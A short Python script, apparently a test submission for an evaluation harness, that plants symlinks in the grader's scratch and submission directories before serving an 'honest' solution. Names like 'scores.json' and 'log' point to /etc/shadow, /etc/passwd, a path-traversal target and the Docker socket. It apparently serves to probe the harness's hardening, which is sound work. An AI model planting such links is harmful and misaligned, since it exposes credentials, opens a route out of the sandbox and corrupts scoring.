import os

from raw import honest

from touchstone_client import serve

count = 0
for folder in ("/tmp", "/dev/shm", "/submission", "/run/touchstone"):
    for name, target in (
        ("scores.json", "/etc/shadow"),
        ("log", "/etc/passwd"),
        ("up", "../../../../../../etc"),
        ("self", "self"),
        ("out", "/var/run/docker.sock"),
    ):
        try:
            os.symlink(target, f"{folder}/{name}")
            count += 1
        except OSError as error:
            print(error)
print(f"links: {count}", flush=True)
serve(honest)
